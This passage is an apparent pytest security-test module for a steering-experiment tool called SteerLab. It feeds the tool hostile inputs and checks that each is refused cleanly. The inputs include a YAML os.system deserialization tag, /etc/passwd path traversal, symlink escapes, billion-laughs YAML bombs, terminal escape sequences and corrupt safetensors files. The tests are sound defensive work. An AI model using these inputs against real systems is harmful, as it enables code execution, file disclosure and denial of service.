"""Hostile inputs: every one ends in one sentence, nothing stored is lost, time and memory stay bounded.

The cases start from ../shared/security/hostile-inputs.md (a table of inputs tried
against SteerLab) and add more. Each runs against a copy of one store that already holds
a finished, rated experiment; afterwards every row of that store must be as it was.

Most cases go through the service functions in this process (the CLI and the dashboard
are thin layers over them); a few go through ``python -m engine`` in a subprocess, where
the exit code and stderr are the contract, and the YAML bombs run in a subprocess with a
memory limit, so that a regression fails the test instead of exhausting the machine.
"""

from __future__ import annotations

import csv
import io
import json
import math
import os
import random
import sqlite3
import struct
import subprocess
import sys
import zlib
from collections.abc import Callable, Iterator
from contextlib import closing
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest
import torch
import yaml
from safetensors.torch import save

from db import repository as repo
from db import runs
from db.store import Store
from engine.errors import SteerLabError
from engine.fields import Where
from engine.spec import parse_experiment
from service.catalog import get_experiment, import_experiment
from service.editing import create_experiment, create_experiment_from_yaml, save_variant, upload_vector
from service.export import export_csv
from service.rating import next_item, record_vote
from service.running import RunOptions, run_experiment_file, run_spec
from tests.conftest import ROOT, TINYSTORIES, needs_models

pytestmark = needs_models

KEPT = "kept"  # the experiment every case's store already holds
MAX_MESSAGE_CHARS = 400
BOMB_TIMEOUT_S = 20
BOMB_MEMORY_BYTES = 1536 * 2**20
ON_CPU = RunOptions(device="cpu")


# -- the store every case starts from ------------------------------------------------------


def experiment(**changes: Any) -> dict[str, Any]:
    """A small valid experiment on the 2-layer TinyStories model (greedy, 2 new tokens)."""
    data: dict[str, Any] = {
        "name": "hostile",
        "model": TINYSTORIES,
        "prompts": ["Once upon a time", "Tom went to the park. He"],
        "generation": {"max_new_tokens": 2, "do_sample": False},
        "vectors": {"sad": {"pairs": [["Lily was sad and cried.", "Lily was happy and smiled."]]}},
        "variants": [
            {"name": "baseline"},
            {
                "name": "steered",
                "interventions": [{"method": "add", "vector": "sad", "layers": [0], "coefficient": 1.0}],
            },
        ],
    }
    data.update(changes)
    return data


def steered(**fields: Any) -> dict[str, Any]:
    """The experiment with the steered variant's edit changed."""
    data = experiment()
    data["variants"][1]["interventions"][0].update(fields)
    return data


def generation(**fields: Any) -> dict[str, Any]:
    return experiment(generation={"max_new_tokens": 2, "do_sample": False, **fields})


@pytest.fixture(scope="module")
def golden(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A store holding experiment KEPT: run, scored and rated once. Cases copy it."""
    path = tmp_path_factory.mktemp("golden") / "golden.db"
    store = Store(str(path))
    spec = parse_experiment(experiment(name=KEPT), Where("golden"))
    assert run_spec(store, spec, "golden", RunOptions(device="cpu")).status == "done"
    item = next_item(store, KEPT, "rater-1", random.Random(0))
    assert item is not None
    record_vote(store, KEPT, "rater-1", item.left_id, item.right_id, "left")
    store.close()
    return path


def copy_store(golden: Path, target: Path) -> Path:
    with closing(sqlite3.connect(golden)) as source, closing(sqlite3.connect(target)) as copy:
        source.backup(copy)
    return target


def snapshot(db: Path) -> dict[str, list[tuple[Any, ...]]]:
    """Every row of every table."""
    with closing(sqlite3.connect(db)) as conn:
        tables = [r[0] for r in conn.execute("SELECT name FROM sqlite_master WHERE type = 'table' ORDER BY name")]
        return {t: conn.execute(f'SELECT * FROM "{t}" ORDER BY rowid').fetchall() for t in tables}


def kept_rows(db: Path) -> dict[str, list[tuple[Any, ...]]]:
    """The rows of experiment KEPT (for cases that may add an experiment of their own)."""
    with closing(sqlite3.connect(db)) as conn:
        (kept_id,) = conn.execute("SELECT id FROM experiments WHERE name = ?", (KEPT,)).fetchone()
        rows = {"experiments": conn.execute("SELECT * FROM experiments WHERE id = ?", (kept_id,)).fetchall()}
        for table in ("prompts", "vectors", "variants", "runs", "generations", "ratings", "memberships"):
            rows[table] = conn.execute(
                f"SELECT * FROM {table} WHERE experiment_id = ? ORDER BY id", (kept_id,)
            ).fetchall()
        rows["variant_metrics"] = conn.execute(
            "SELECT m.* FROM variant_metrics m JOIN variants v ON v.id = m.variant_id "
            "WHERE v.experiment_id = ? ORDER BY m.id",
            (kept_id,),
        ).fetchall()
        rows["generation_metrics"] = conn.execute(
            "SELECT m.* FROM generation_metrics m JOIN generations g ON g.id = m.generation_id "
            "WHERE g.experiment_id = ? ORDER BY m.id",
            (kept_id,),
        ).fetchall()
    assert rows["generations"] and rows["ratings"] and rows["variant_metrics"]
    return rows


def assert_one_sentence(message: str, *fragments: str) -> None:
    """What, where and what to do, in one line of readable length."""
    assert "Traceback" not in message, message
    assert "\n" not in message and "\r" not in message, message
    assert not any(ord(ch) < 32 or 0x7F <= ord(ch) <= 0x9F for ch in message), message
    assert len(message) <= MAX_MESSAGE_CHARS, f"{len(message)} characters: {message}"
    assert message.endswith("."), message
    assert "; " in message, f"no 'what to do' part: {message}"
    for fragment in fragments:
        assert fragment in message, f"{fragment!r} not in {message!r}"


# -- building hostile inputs -----------------------------------------------------------------


def dump(data: Any) -> str:
    return yaml.safe_dump(data, allow_unicode=True, sort_keys=False)


def vector_bytes(
    directions: torch.Tensor | None = None, metadata: dict[str, str] | None = None, **tensors: torch.Tensor
) -> bytes:
    """A safetensors file like SteerLab's (one direction at layer 0, hidden 128), with changes."""
    meta = {"format": "steerlab-vector/1", "name": "v", "hidden_size": "128", "layers": "[0]"}
    meta.update(metadata or {})
    content = tensors or {"directions": torch.ones(1, 128) if directions is None else directions}
    return save(content, metadata=meta)


def raw_safetensors(header: dict[str, Any], data: bytes, declared_length: int | None = None) -> bytes:
    encoded = json.dumps(header).encode()
    length = len(encoded) if declared_length is None else declared_length
    return length.to_bytes(8, "little") + encoded + data


def png_bytes() -> bytes:
    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

    pixels = zlib.compress(b"\x00\xff\x00\x00")
    ihdr = struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) + chunk(b"IDAT", pixels) + chunk(b"IEND", b"")


# Hostile vector files: (id, bytes, what the message names). Each is tried as a file named
# by an experiment file and as a dashboard upload.
VECTOR_FILES: list[tuple[str, Callable[[], bytes], str]] = [
    ("etc_passwd", lambda: Path("/etc/passwd").read_bytes(), "not a readable safetensors vector file"),
    ("random_bytes", lambda: random.Random(0).randbytes(4096), "not a readable safetensors vector file"),
    ("png", png_bytes, "not a readable safetensors vector file"),
    ("empty", lambda: b"", "not a readable safetensors vector file"),
    ("truncated", lambda: vector_bytes()[:200], "not a readable safetensors vector file"),
    (
        "huge_declared_shape",
        lambda: raw_safetensors(
            {"directions": {"dtype": "F32", "shape": [1, 4_000_000_000], "data_offsets": [0, 16_000_000_000]}},
            bytes(512),
        ),
        "not a readable safetensors vector file",
    ),
    ("header_len_2e62", lambda: raw_safetensors({}, bytes(64), declared_length=2**62), "not a readable safetensors"),
    (
        "dtype_name_5000_chars",
        lambda: raw_safetensors({"directions": {"dtype": "X" * 5000, "shape": [1], "data_offsets": [0, 4]}}, bytes(4)),
        "not a readable safetensors vector file",
    ),
    ("3d_tensor", lambda: vector_bytes(torch.ones(1, 2, 128)), "shape [1, 2, 128]"),
    ("no_rows", lambda: vector_bytes(torch.ones(0, 128), {"layers": "[]"}), "shape [0, 128]"),
    ("int_tensor", lambda: vector_bytes(torch.ones(1, 128, dtype=torch.int32)), "not floating point"),
    (
        "two_tensors_no_directions",
        lambda: vector_bytes(None, None, a=torch.ones(1, 128), b=torch.ones(1, 128)),
        "no tensor named 'directions'",
    ),
    ("meta_layers_int", lambda: vector_bytes(metadata={"layers": "3"}), "layers '3'"),
    ("meta_layers_text", lambda: vector_bytes(metadata={"layers": "abc"}), "layers 'abc'"),
    ("meta_layers_duplicates", lambda: vector_bytes(torch.ones(2, 128), {"layers": "[0, 0]"}), "distinct"),
    ("meta_layers_negative", lambda: vector_bytes(metadata={"layers": "[-1]"}), "distinct layer numbers"),
    ("meta_layers_count", lambda: vector_bytes(metadata={"layers": "[0, 1]"}), "2 layers for 1 directions"),
    ("meta_seconds_text", lambda: vector_bytes(metadata={"extraction_seconds": "abc"}), "extraction_seconds 'abc'"),
    ("meta_seconds_nan", lambda: vector_bytes(metadata={"extraction_seconds": "nan"}), "extraction_seconds 'nan'"),
    ("nan_values", lambda: vector_bytes(torch.full((1, 128), math.nan)), "NaN or infinite"),
    ("inf_values", lambda: vector_bytes(torch.full((1, 128), math.inf)), "NaN or infinite"),
    ("float64_overflow", lambda: vector_bytes(torch.full((1, 128), 1e300, dtype=torch.float64)), "NaN or infinite"),
    ("huge_values", lambda: vector_bytes(torch.full((1, 128), 1e30)), "magnitude 1e+30"),
    ("wrong_hidden_size", lambda: vector_bytes(torch.ones(1, 64)), "hidden size 64"),
]


# -- the cases ---------------------------------------------------------------------------------


@dataclass(frozen=True)
class Case:
    """A hostile input, the service call that gets it, and what the message must name.

    ``build`` writes what it needs into the case's folder and returns the input: an
    experiment file's path (``file``, run by service.running.run_experiment_file), YAML
    text (``upload``: service.editing.create_experiment_from_yaml), safetensors bytes
    (``vector_upload``: service.editing.upload_vector to experiment KEPT), a variant's
    form data (``variant``: service.editing.save_variant on KEPT) or the new-experiment
    form's data (``form``: service.editing.create_experiment).
    """

    id: str
    kind: str
    build: Callable[[Path], Any]
    fragments: tuple[str, ...] = ()
    env: dict[str, str] = field(default_factory=dict)
    options: RunOptions = ON_CPU


def file_case(
    case_id: str,
    content: Any,
    *fragments: str,
    env: dict[str, str] | None = None,
    files: Callable[[Path], object] | None = None,
    options: RunOptions = ON_CPU,
) -> Case:
    """An experiment file (data, or YAML text) in a folder of its own, with ``files`` beside it."""

    def build(folder: Path) -> Path:
        if files is not None:
            files(folder)
        path = folder / "exp.yaml"
        if isinstance(content, bytes):
            path.write_bytes(content)
        else:
            path.write_text(content if isinstance(content, str) else dump(content), encoding="utf-8")
        return path

    return Case(case_id, "file", build, fragments, env or {}, options)


def upload_case(case_id: str, content: Any, *fragments: str) -> Case:
    """An experiment file uploaded in the dashboard (data, or YAML text): it comes without a folder."""
    text = content if isinstance(content, str) else dump(content)
    return Case(case_id, "upload", lambda _: text, fragments)


def with_prompts_file(file: str, **changes: Any) -> dict[str, Any]:
    data = experiment(**changes)
    del data["prompts"]
    data["prompts_file"] = file
    return data


def without(key: str) -> dict[str, Any]:
    """The experiment less one field, for a test that writes that field as YAML itself."""
    return {k: v for k, v in experiment().items() if k != key}


def with_vector_file(name: str) -> dict[str, Any]:
    return experiment(vectors={"sad": {"file": name}})


def write_files(**files: str | bytes) -> Callable[[Path], None]:
    def write(folder: Path) -> None:
        for name, content in files.items():
            target = folder / name
            target.parent.mkdir(parents=True, exist_ok=True)
            if isinstance(content, bytes):
                target.write_bytes(content)
            else:
                target.write_text(content, encoding="utf-8")

    return write


def secret_outside(folder: Path) -> Path:
    """A file beside the case's folder, which an experiment file in the folder must not read."""
    secret = folder.parent / f"{folder.name}-secret" / "creds.txt"
    secret.parent.mkdir(exist_ok=True)
    secret.write_text("AWS_SECRET_ACCESS_KEY=do-not-read\nsecond line\n")
    return secret


def symlink_out(folder: Path) -> None:
    (folder / "link.txt").symlink_to(secret_outside(folder))


def symlink_loop(folder: Path) -> None:
    (folder / "a.txt").symlink_to(folder / "b.txt")
    (folder / "b.txt").symlink_to(folder / "a.txt")


def billion_laughs(levels: int = 9) -> str:
    """A YAML flow list whose anchors grow ten-fold per level: 10**levels values once expanded."""
    items = ['&l0 "lol"'] + [f"&l{i} [" + ", ".join([f"*l{i - 1}"] * 10) + "]" for i in range(1, levels + 1)]
    return "[" + ", ".join(items) + "]"


def bomb(where: str) -> str:
    """An experiment file with a billion-laughs value, anchors and all, in the field ``where``."""
    data = experiment()
    if where == "chat_template":
        data["chat_template"] = "BOMB"
    elif where == "prompts":
        data["prompts"] = ["one", "BOMB"]
    else:
        data["vectors"]["sad"]["method"] = "BOMB"
    return dump(data).replace("BOMB", billion_laughs())


def vector_file_from(content: Callable[[], bytes]) -> Callable[[Path], object]:
    return lambda folder: (folder / "v.safetensors").write_bytes(content())


def upload_from(content: Callable[[], bytes]) -> Callable[[Path], bytes]:
    return lambda _: content()


NUL = "\x00"
LONG_NAME = "n" * 101


def cases() -> Iterator[Case]:
    # Vector files, named by an experiment file and uploaded in the dashboard.
    for case_id, content, fragment in VECTOR_FILES:
        yield file_case(
            f"vector_file_{case_id}",
            with_vector_file("v.safetensors"),
            "v.safetensors",
            fragment,
            files=vector_file_from(content),
        )
        yield Case(f"upload_vector_{case_id}", "vector_upload", upload_from(content), (fragment,))
    yield file_case(
        "vector_file_over_byte_limit",
        with_vector_file("v.safetensors"),
        "STEERLAB_MAX_FILE_BYTES",
        env={"STEERLAB_MAX_FILE_BYTES": "100"},
        files=write_files(**{"v.safetensors": vector_bytes()}),
    )
    yield file_case("vector_file_missing", with_vector_file("nowhere.safetensors"), "does not exist")

    # Files outside the experiment file's folder.
    yield file_case("vector_file_etc_passwd_absolute", with_vector_file("/etc/passwd"), "points outside")
    yield file_case("vector_file_dotdot", with_vector_file("../../../../../../etc/passwd"), "points outside")
    yield file_case("prompts_file_etc_passwd", with_prompts_file("../../../../../../../etc/passwd"), "points outside")
    yield file_case("prompts_file_absolute", with_prompts_file("/etc/passwd"), "prompts_file", "points outside")
    yield file_case(
        "prompts_file_outside_folder_cli",
        with_prompts_file("../case-secret/creds.txt"),
        "prompts_file",
        "points outside",
        "--allow-path",
        files=secret_outside,
    )
    yield file_case("prompts_file_symlink_out", with_prompts_file("link.txt"), "points outside", files=symlink_out)
    yield file_case("prompts_file_symlink_loop", with_prompts_file("a.txt"), "cannot be followed", files=symlink_loop)
    yield file_case("prompts_file_line_break_in_name", with_prompts_file("a\nb.txt"), "line break")
    yield file_case("prompts_file_name_too_long", with_prompts_file("p" * 300 + ".txt"), "cannot be opened")
    yield file_case("prompts_file_no_suffix", with_prompts_file("passwd"), "has type ''", files=write_files(passwd="x"))
    yield file_case(
        "prompts_file_is_a_folder",
        with_prompts_file("sub.txt"),
        "does not exist",
        files=write_files(**{"sub.txt/x": "x"}),
    )
    yield file_case(
        "prompts_file_not_utf8",
        with_prompts_file("p.txt"),
        "not UTF-8",
        files=write_files(**{"p.txt": b"\xff\xfe\xfa"}),
    )
    yield file_case(
        "prompts_file_nul", with_prompts_file("p.txt"), "U+0000", files=write_files(**{"p.txt": "Once\x00upon\n"})
    )
    yield file_case(
        "prompts_100k",
        with_prompts_file("p.txt"),
        "more than 10,000 prompts",
        files=lambda folder: (folder / "p.txt").write_text("Once upon a time\n" * 100_000),
    )
    yield file_case(
        "prompts_file_over_byte_limit",
        with_prompts_file("p.txt"),
        "STEERLAB_MAX_FILE_BYTES",
        env={"STEERLAB_MAX_FILE_BYTES": "1000"},
        files=write_files(**{"p.txt": "Once upon a time\n" * 100}),
    )
    yield file_case(
        "prompts_csv_field_over_csv_limit",
        with_prompts_file("p.csv"),
        "not valid CSV",
        files=write_files(**{"p.csv": 'prompt\n"' + "a" * 200_000 + '"\n'}),
    )
    yield file_case(
        "prompts_jsonl_deep_nesting",
        with_prompts_file("p.jsonl"),
        "line 1",
        files=write_files(**{"p.jsonl": "[" * 100_000 + "]" * 100_000 + "\n"}),
    )

    # Uploads come without a folder: they may not name files at all.
    # (A plain name is refused too, so no symlink on the server can be reached through one.)
    for case_id, file in [("absolute", "/etc/passwd"), ("relative", "../../etc/passwd"), ("plain_name", "p.txt")]:
        yield upload_case(
            f"prompts_file_{case_id}_dashboard_upload", with_prompts_file(file), "prompts_file", "names a file"
        )
    for case_id, file in [
        ("absolute", "/etc/passwd"),
        ("relative", "../v.safetensors"),
        ("plain_name", "v.safetensors"),
    ]:
        yield upload_case(
            f"vector_file_{case_id}_dashboard_upload", with_vector_file(file), "names a file", "Variants page"
        )

    # YAML.
    tag = "!!python/object/apply:os.system ['echo pwned > /tmp/steerlab-pwned']"
    yield file_case("yaml_python_tag", f"name: {tag}\n", "line 1", "python/object/apply:os.system")
    yield file_case(
        "yaml_python_tag_nested",
        "name: x\nvariants:\n  - name: !!python/object/new:os.system [ls]\n",
        "python/object/new",
    )
    yield upload_case("yaml_python_tag_upload", f"name: {tag}\n", "Uploaded file 'upload.yaml'", "YAML syntax error")
    yield file_case("yaml_truncated", dump(experiment())[:-40], "variants")
    yield file_case("yaml_syntax_error", "name: x\nprompts: [unclosed\n", "YAML syntax error", "line 3")
    yield file_case("yaml_empty", "", "expected a mapping of fields, got nothing")
    yield file_case("yaml_top_level_list", "- a\n- b\n", "expected a mapping of fields, got a list")
    yield file_case("yaml_not_utf8", b"name: \xff\xfe\n", "not UTF-8")
    yield file_case("yaml_over_2mb", "# " + "x" * 2_100_000 + "\n", "over the 2,000,000 allowed")
    yield file_case("yaml_deep_nesting", "name: " + "[" * 50_000 + "]" * 50_000 + "\n", "too deeply")
    yield file_case(
        "yaml_int_5000_digits",
        dump(generation(max_new_tokens=1)).replace("max_new_tokens: 1", "max_new_tokens: " + "9" * 5000),
        "more than 4,300 digits",
    )
    yield file_case(
        "yaml_int_400_digits",
        dump(generation(max_new_tokens=int("9" * 400))),
        "max_new_tokens",
        "a number of about 401 digits",
    )
    yield file_case("yaml_bad_date", dump(experiment()) + "description: 2024-13-45\n", "cannot be read")
    yield file_case("yaml_binary_value", dump(experiment()) + "description: !!binary aGVsbG8=\n", "got a bytes")
    yield file_case("yaml_mixed_type_keys", dump(experiment()) + "1: a\nnull: b\ntrue: c\n", "is not a known field")
    yield file_case("yaml_key_with_line_break", dump({**experiment(), "a\nb": 1}), "a\\nb", "not a known field")
    yield file_case("yaml_key_5000_chars", dump({**experiment(), "k" * 5000: 1}), "not a known field")
    yield file_case(
        "yaml_laughs_1000_values_in_description",
        dump(experiment(description="LAUGHS")).replace("LAUGHS", billion_laughs(3)),
        "description",
        "expected text, got a list",
    )

    # Names and texts.
    yield file_case("experiment_name_nul", experiment(name=f"a{NUL}b"), "field name", "U+0000")
    yield file_case("experiment_name_escape", experiment(name="a\x1b[31mred"), "U+001B")
    yield file_case("experiment_name_c1", 'name: "a\\x85b"\n' + dump(without("name")), "U+0085")
    yield file_case(
        "experiment_name_surrogate",
        'name: "a\\ud800b"\n' + dump(without("name")),
        "surrogate U+D800",
    )
    yield file_case("experiment_name_101_chars", experiment(name=LONG_NAME), "101 characters", "at most 100")
    yield file_case("experiment_name_line_break", experiment(name="a\nb"), "line break")
    yield file_case("experiment_name_blank", experiment(name="   "), "is empty")
    yield file_case("variant_name_nul", experiment(variants=[{"name": f"base{NUL}line"}]), "variants[0].name", "U+0000")
    yield file_case("variant_name_101_chars", experiment(variants=[{"name": LONG_NAME}]), "at most 100")
    yield file_case(
        "variant_names_repeated", experiment(variants=[{"name": "a"}, {"name": "a"}]), "repeats the variant name"
    )
    yield file_case(
        "vector_name_nul", steered(vector=f"s{NUL}ad") | {"vectors": {f"s{NUL}ad": {"pairs": [["a", "b"]]}}}, "U+0000"
    )
    yield file_case("vector_name_101_chars", experiment(vectors={LONG_NAME: {"pairs": [["a", "b"]]}}), "at most 100")
    yield file_case("prompt_nul", experiment(prompts=["ok", f"bad{NUL}prompt"]), "prompts[1]", "U+0000")
    yield file_case("prompt_escape_sequence", experiment(prompts=["\x1b]0;owned\x07"]), "prompts[0]", "U+001B")
    yield file_case("prompt_100k_chars", experiment(prompts=["a" * 100_000]), "prompts[0]", "STEERLAB_MAX_PROMPT_CHARS")
    yield file_case("prompt_empty", experiment(prompts=["ok", "  "]), "prompts[1]", "is empty")
    yield file_case("prompts_not_a_list", experiment(prompts="Once upon a time"), "expected a list")
    yield file_case(
        "too_many_prompts_env",
        experiment(prompts=["a", "b", "c"]),
        "STEERLAB_MAX_PROMPTS",
        env={"STEERLAB_MAX_PROMPTS": "2"},
    )
    yield file_case(
        "prompt_limit_env_not_a_number", experiment(), "STEERLAB_MAX_PROMPTS", env={"STEERLAB_MAX_PROMPTS": "lots"}
    )
    yield file_case(
        "too_many_generations_env", experiment(), "STEERLAB_MAX_GENERATIONS", env={"STEERLAB_MAX_GENERATIONS": "3"}
    )
    yield file_case(
        "too_many_variants", experiment(variants=[{"name": f"v{i}"} for i in range(65)]), "STEERLAB_MAX_VARIANTS"
    )
    yield file_case(
        "too_many_edits",
        steered() | {"variants": [{"name": "s", "interventions": [steered()["variants"][1]["interventions"][0]] * 17}]},
        "STEERLAB_MAX_EDITS_PER_VARIANT",
    )
    yield file_case(
        "too_many_vectors",
        experiment(vectors={f"v{i}": {"pairs": [["a", "b"]]} for i in range(65)}),
        "STEERLAB_MAX_VECTORS",
    )
    yield file_case(
        "too_many_pairs",
        experiment(vectors={"sad": {"pairs": [["a", "b"]] * 3}}),
        "pairs",
        "STEERLAB_MAX_PROMPTS",
        env={"STEERLAB_MAX_PROMPTS": "2"},
    )
    yield file_case(
        "too_many_neutral_prompts",
        experiment(neutral_prompts=["a"] * 3),
        "neutral_prompts",
        env={"STEERLAB_MAX_PROMPTS": "2"},
    )
    yield file_case(
        "description_100k_chars", experiment(description="d" * 100_000), "description", "STEERLAB_MAX_PROMPT_CHARS"
    )
    yield file_case("system_prompt_100k_chars", experiment(variants=[{"name": "p", "system": "s" * 100_000}]), "system")
    yield file_case("pair_text_100k_chars", experiment(vectors={"sad": {"pairs": [["a" * 100_000, "b"]]}}), "positive")

    # Numbers.
    for case_id, value, fragment in [
        ("coefficient_1e308", 1e308, "above the largest allowed value"),
        ("coefficient_1e30", 1e30, "above the largest allowed value"),
        ("coefficient_minus_1e5", -1e5, "below the smallest allowed value"),
        ("coefficient_nan", math.nan, "give a finite number"),
        ("coefficient_inf", math.inf, "give a finite number"),
        ("coefficient_minus_inf", -math.inf, "give a finite number"),
        ("coefficient_text", "1e308", "expected a number"),
        ("coefficient_bool", True, "expected a number"),
    ]:
        yield file_case(case_id, steered(coefficient=value), "coefficient", fragment)
    yield file_case("layer_out_of_range", steered(layers=[99]), "layer 99 is out of range")
    yield file_case("layer_negative", steered(layers=[-1]), "layer -1 is out of range")
    yield file_case("layers_20000_repeats", steered(layers=[0] * 20_000), "repeats layer 0")
    yield file_case("layer_10e30", steered(layers=[10**30]), "out of range")
    yield file_case("method_name_5000_chars", steered(method="m" * 5000), "not a known steering method")
    yield file_case("vector_reference_5000_chars", steered(vector="v" * 5000), "which the experiment does not define")
    yield file_case("scope_unknown", steered(scope="everywhere"), "scope")
    yield file_case("temperature_1e-300", generation(do_sample=True, temperature=1e-300), "temperature", "below 0.01")
    yield file_case("temperature_zero", generation(do_sample=True, temperature=0.0), "temperature")
    yield file_case("temperature_nan", generation(do_sample=True, temperature=math.nan), "temperature")
    yield file_case("temperature_1e308", generation(do_sample=True, temperature=1e308), "temperature")
    yield file_case("max_new_tokens_1e9", generation(max_new_tokens=10**9), "max_new_tokens", "give 4096 or less")
    yield file_case("max_new_tokens_float", generation(max_new_tokens=1e9), "max_new_tokens", "whole number")
    yield file_case("max_new_tokens_zero", generation(max_new_tokens=0), "max_new_tokens")
    yield file_case(
        "samples_per_prompt_1e6", generation(do_sample=True, samples_per_prompt=10**6), "samples_per_prompt"
    )
    yield file_case("top_k_negative", generation(top_k=-1), "top_k")
    yield file_case("top_p_zero", generation(top_p=0.0), "top_p")
    yield file_case("seed_negative", generation(seed=-1), "seed")
    yield file_case("rating_overlap_nan", experiment(rating_overlap=math.nan), "rating_overlap")
    yield file_case(
        "batch_size_minus_3", experiment(), "Batch size -3", options=RunOptions(batch_size=-3, device="cpu")
    )
    yield file_case("batch_size_0", experiment(), "Batch size 0", options=RunOptions(batch_size=0, device="cpu"))

    # The dashboard's forms, on the stored experiment.
    edit = {"method": "add", "vector": "sad", "layers": [0]}
    yield Case(
        "add_nan_variant_to_stored",
        "variant",
        lambda _: {"name": "x", "interventions": [{**edit, "coefficient": math.nan}]},
        ("finite",),
    )
    yield Case(
        "add_1e308_variant_to_stored",
        "variant",
        lambda _: {"name": "x", "interventions": [{**edit, "coefficient": 1e308}]},
        ("coefficient",),
    )
    yield Case("add_variant_name_nul", "variant", lambda _: {"name": f"x{NUL}"}, ("U+0000",))
    yield Case("add_variant_name_101_chars", "variant", lambda _: {"name": LONG_NAME}, ("at most 100",))
    yield Case(
        "form_experiment_name_nul",
        "form",
        lambda _: {**experiment(name=f"x{NUL}"), "variants": [{"name": "b"}]},
        ("U+0000",),
    )
    yield Case(
        "form_prompt_100k_chars", "form", lambda _: experiment(prompts=["p" * 100_000]), ("STEERLAB_MAX_PROMPT_CHARS",)
    )
    yield Case(
        "form_max_new_tokens_huge",
        "form",
        lambda _: generation(max_new_tokens=10**5000),
        ("a number of about 5,001 digits",),
    )


CASES = list(cases())


@pytest.mark.parametrize("case", CASES, ids=[c.id for c in CASES])
def test_hostile_input_is_refused_in_one_sentence(
    case: Case, golden: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    for variable, value in case.env.items():
        monkeypatch.setenv(variable, value)
    folder = tmp_path / "case"
    folder.mkdir()
    db = copy_store(golden, tmp_path / "case.db")
    store = Store(str(db))
    before = snapshot(db)
    try:
        payload = case.build(folder)
        with pytest.raises(SteerLabError) as caught:
            if case.kind == "file":
                run_experiment_file(store, payload, case.options)
            elif case.kind == "upload":
                create_experiment_from_yaml(store, payload, "upload.yaml")
            elif case.kind == "vector_upload":
                upload_vector(store, KEPT, "uploaded", payload, "upload.safetensors")
            elif case.kind == "variant":
                save_variant(store, KEPT, payload)
            else:
                create_experiment(store, payload)
    finally:
        store.close()
    assert_one_sentence(str(caught.value), *case.fragments)
    assert snapshot(db) == before, "a refused input must leave the store as it was"


# -- YAML bombs, in a subprocess with bounded memory and time -------------------------------------

BOMBS = ("chat_template", "vectors.method", "prompts", "dashboard_upload")

BOMB_DRIVER = """
import json, sys, time
from pathlib import Path
from db.store import Store
from engine.errors import SteerLabError
from service.editing import create_experiment_from_yaml
from service.running import RunOptions, run_experiment_file

store = Store(sys.argv[1])
results = {}
for where, path in json.loads(sys.argv[2]).items():
    start = time.monotonic()
    try:
        if where == "dashboard_upload":
            create_experiment_from_yaml(store, Path(path).read_text(), "bomb.yaml")
        else:
            run_experiment_file(store, path, RunOptions(device="cpu"))
        message = None
    except SteerLabError as exc:
        message = str(exc)
    results[where] = {"message": message, "seconds": time.monotonic() - start}
print(json.dumps(results))
"""


def limited(command: list[str], cwd: Path) -> subprocess.CompletedProcess[str]:
    """Run ``command`` with at most BOMB_MEMORY_BYTES of address space and BOMB_TIMEOUT_S seconds."""
    import resource

    def limit_memory() -> None:
        resource.setrlimit(resource.RLIMIT_AS, (BOMB_MEMORY_BYTES, BOMB_MEMORY_BYTES))

    env = {**os.environ, "PYTHONPATH": str(ROOT)}
    return subprocess.run(
        command,
        cwd=cwd,
        env=env,
        capture_output=True,
        text=True,
        timeout=BOMB_TIMEOUT_S,
        preexec_fn=limit_memory,
        check=False,
    )


@pytest.fixture(scope="module")
def bomb_results(golden: Path, tmp_path_factory: pytest.TempPathFactory) -> dict[str, Any]:
    folder = tmp_path_factory.mktemp("bombs")
    db = copy_store(golden, folder / "bombs.db")
    before = snapshot(db)
    paths = {}
    for where in BOMBS:
        paths[where] = str(folder / f"{where.replace('.', '_')}.yaml")
        Path(paths[where]).write_text(bomb("chat_template" if where == "dashboard_upload" else where))
    done = limited([sys.executable, "-c", BOMB_DRIVER, str(db), json.dumps(paths)], folder)
    assert done.returncode == 0, done.stderr[-2000:]
    results: dict[str, Any] = json.loads(done.stdout.strip().splitlines()[-1])
    results["store_unchanged"] = snapshot(db) == before
    return results


@pytest.mark.parametrize("where", BOMBS, ids=[f"yaml_bomb_in_{w.replace('.', '_')}" for w in BOMBS])
def test_yaml_bomb_is_refused_quickly_in_bounded_memory(bomb_results: dict[str, Any], where: str) -> None:
    result = bomb_results[where]
    assert result["message"] is not None, "a YAML bomb was accepted"
    assert_one_sentence(result["message"], "YAML aliases")
    assert result["seconds"] < 5, result
    assert bomb_results["store_unchanged"]


def test_yaml_bomb_through_the_cli_exits_2(golden: Path, tmp_path: Path) -> None:
    db = copy_store(golden, tmp_path / "cli.db")
    before = snapshot(db)
    path = tmp_path / "bomb.yaml"
    path.write_text(bomb("chat_template"))
    done = limited([sys.executable, "-m", "engine", "run", str(path), "--db", str(db), "--device", "cpu"], tmp_path)
    assert done.returncode == 2, done.stderr[-2000:]
    error = done.stderr.strip()
    assert error.startswith("error: "), error
    assert_one_sentence(error.removeprefix("error: "), "bomb.yaml", "YAML aliases")
    assert snapshot(db) == before


# -- the CLI: exit code 2 and one line on stderr; --allow-path -----------------------------------


def test_cli_subprocess_refuses_a_3d_vector_file(golden: Path, tmp_path: Path) -> None:
    db = copy_store(golden, tmp_path / "cli.db")
    before = snapshot(db)
    (tmp_path / "v.safetensors").write_bytes(vector_bytes(torch.ones(1, 2, 128)))
    path = tmp_path / "exp.yaml"
    path.write_text(dump(with_vector_file("v.safetensors")))
    done = subprocess.run(
        [sys.executable, "-m", "engine", "run", str(path), "--db", str(db), "--device", "cpu"],
        cwd=tmp_path,
        env={**os.environ, "PYTHONPATH": str(ROOT)},
        capture_output=True,
        text=True,
        timeout=120,
        check=False,
    )
    assert done.returncode == 2, done.stderr[-2000:]
    # Model loading may draw a progress bar on stderr first; the error is one line, the last.
    lines = done.stderr.strip().splitlines()
    assert [line for line in lines if line.startswith("error: ")] == lines[-1:], done.stderr
    assert "Traceback" not in done.stderr
    assert_one_sentence(lines[-1].removeprefix("error: "), "v.safetensors", "shape [1, 2, 128]")
    assert snapshot(db) == before


def test_cli_reads_other_folders_only_with_allow_path(
    golden: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    from service.cli import main

    db = copy_store(golden, tmp_path / "cli.db")
    shared = tmp_path / "shared-prompts"
    shared.mkdir()
